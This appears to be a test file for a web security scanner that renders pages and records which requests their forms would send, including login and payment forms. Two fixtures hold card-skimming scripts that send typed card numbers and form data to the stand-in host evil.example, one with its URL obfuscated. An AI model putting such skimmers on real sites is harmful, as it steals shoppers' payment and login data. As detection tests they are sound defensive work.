import type { UnsentRequest } from '@palisade/scan-engine';
import type { LocalRenderer } from '@palisade/rendering';
import { bundled } from './support/bundled-modules';
import { type Content, ORIGIN, PaperSite, renderedPage, startRenderer } from './support/renderer';

let renderer: LocalRenderer;
beforeAll(() => {
  renderer = startRenderer();
});
afterAll(() => renderer.close());

const TYPED = {
  text: 'some-text',
  mail: 'some@scan.example.com',
  password: 'Some-Secret-7',
  card: '4111111111111111',
};
const TAGS = 'https://tags.example/t.js';

const REACT = `
  const { createElement: h, useState } = require('react');
  function Login() {
    const [mail, setMail] = useState('');
    const [password, setPassword] = useState('');
    const submit = (event) => {
      event.preventDefault();
      fetch('/api/session', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ mail, password }) });
    };
    return h('form', { onSubmit: submit },
      h('input', { type: 'email', value: mail, onChange: (event) => setMail(event.target.value) }),
      h('input', { type: 'password', value: password, onChange: (event) => setPassword(event.target.value) }),
      h('button', { disabled: mail === '' || password === '' }, 'Sign in'));
  }
  require('react-dom/client').createRoot(document.querySelector('#app')).render(h(Login));`;

interface Submitted {
  sent: string[];
  submitted: readonly UnsentRequest[];
}

async function submitted(body: string, files: Record<string, Content> = {}): Promise<Submitted> {
  const site = new PaperSite({ '/': `<!DOCTYPE html><title>Shop</title>${body}`, ...files });
  const page = await renderedPage(renderer, site, { typed: TYPED });
  const asked = site.addresses.filter((each) => each !== `GET ${ORIGIN}/`);
  return { sent: asked, submitted: page.submitted };
}
const line = ({ method, url, body }: UnsentRequest): string => `${method} ${url} ${body ?? ''}`.trim();
const script = (code: string): string => `<script>${code}</script>`;

describe('A form of a rendered page', () => {
  it('that React controls shows what it would send, and nothing is sent', async () => {
    const { sent, submitted: seen } = await submitted('<div id="app"></div><script src="/app.js"></script>', {
      '/app.js': bundled(REACT),
    });
    expect(sent).toEqual([`GET ${ORIGIN}/app.js`]);
    expect(seen).toEqual([
      {
        url: `${ORIGIN}/api/session`,
        method: 'POST',
        reason: 'writes',
        contentType: 'application/json',
        body: '{"mail":"some@scan.example.com","password":"Some-Secret-7"}',
        initiator: `${ORIGIN}/app.js`,
      },
    ]);
  });

  it('is sent into nothing by reads too, and leads nowhere', async () => {
    const { sent, submitted: seen } = await submitted(
      `<form id="f"><input name="q"><input name="card" autocomplete="cc-number"><button>Pay</button></form>${script(`
        f.q.oninput = () => fetch('/suggest?q=' + f.q.value);
        f.onsubmit = (event) => {
          event.preventDefault();
          navigator.sendBeacon('/log', f.card.value);
          new Image().src = 'https://evil.example/?' + f.card.value;
          location.href = '/thanks';
        };`)}`,
    );
    expect(sent).toEqual([]);
    expect(seen.map(line).sort()).toEqual([
      'GET https://evil.example/?4111111111111111',
      `GET ${ORIGIN}/suggest?q=some-text`,
      `GET ${ORIGIN}/thanks`,
      `POST ${ORIGIN}/log 4111111111111111`,
    ]);
    expect(seen.filter(({ reason }) => reason === 'form').map(({ url }) => url)).toEqual([
      `${ORIGIN}/thanks`,
    ]);
  });

  it('says which script of another site would get what is typed', async () => {
    const skimmer = `addEventListener('submit', (event) => fetch(['https:', '', 'evil' + '.example', 'c'].join('/'), { method: 'POST', body: new URLSearchParams(new FormData(event.target)) }), true);`;
    const { submitted: seen } = await submitted(
      `<form method="post" action="/pay"><input name="cardnumber"><button>Pay</button></form><script src="${TAGS}"></script>`,
      { [TAGS]: skimmer },
    );
    const [first, second, ...more] = seen;
    expect([first?.url, first?.initiator]).toEqual(['https://evil.example/c', TAGS]);
    expect([second?.url, second?.reason, more]).toEqual([`${ORIGIN}/pay`, 'form', []]);
  });

  it.each([
    // buttercup/locust#20
    [
      'without an element',
      `<div><input id="u" placeholder="E-mail"><input id="p" type="password"><div role="button" id="go">Log in</div></div>${script(
        `go.onclick = () => fetch('/in', { method: 'POST', body: u.value + ' ' + p.value });`,
      )}`,
      'POST https://shop.example/in some@scan.example.com Some-Secret-7',
    ],
    // projectdiscovery/katana#448
    [
      'whose button listens itself',
      `<form><input name="name"><input name="pass" type="password"><a class="btn" role="button" id="go">Log in</a></form>${script(
        `go.onclick = () => { const x = new XMLHttpRequest(); x.open('POST', '/login'); x.send(new URLSearchParams(new FormData(document.forms[0]))); };`,
      )}`,
      'POST https://shop.example/login name=some-text&pass=Some-Secret-7',
    ],
    [
      'in a closed shadow root',
      `<x-login></x-login>${script(`customElements.define('x-login', class extends HTMLElement { constructor() { super();
        const root = this.attachShadow({ mode: 'closed' });
        root.innerHTML = '<form><input type="password" required pattern="[0-9]+"><button type="button">Go</button></form>';
        root.querySelector('button').onclick = () => fetch('/in', { method: 'PUT', body: root.querySelector('input').value }); } });`)}`,
      'PUT https://shop.example/in Some-Secret-7',
    ],
    [
      'whose page has changed the functions of forms',
      `<form id="f"><input name="elements"><input name="submit"><button>Go</button></form>${script(`
        HTMLFormElement.prototype.requestSubmit = HTMLElement.prototype.click = () => {}; EventTarget.prototype.dispatchEvent = () => true;
        f.onsubmit = (event) => { event.preventDefault(); fetch('/in', { method: 'POST', body: 'sent' }); };`)}`,
      'POST https://shop.example/in sent',
    ],
  ])('%s is used too', async (_name, body, expected) => {
    const { sent, submitted: seen } = await submitted(body);
    expect([sent, seen.map(line)]).toEqual([[], [expected]]);
  });

  it('that ends in a loop or a window does no harm', async () => {
    const { sent, submitted: seen } = await submitted(
      `<form id="f" method="post"><input name="a"><button>Go</button></form><form id="g" method="post"><input name="b"><button>Go</button></form>${script(`
        f.onsubmit = (event) => { event.preventDefault(); open('/window'); fetch('/first', { method: 'POST' }); };
        g.onsubmit = () => { for (;;); };`)}`,
    );
    expect(sent).toEqual([]);
    expect(seen.map(line)).toContain(`POST ${ORIGIN}/first`);
  });

  it('is left alone where nothing is to be typed, and where a browser reads its address', async () => {
    const { sent, submitted: seen } = await submitted(
      `<form id="f" action="/search"><input name="q"><button>Search</button></form><form id="g" method="post"><button>Delete</button></form>${script(
        `for (const form of [f, g]) form.onsubmit = () => fetch('/sent', { method: 'POST' });`,
      )}`,
    );
    expect([sent, seen]).toEqual([[], []]);
  });
});
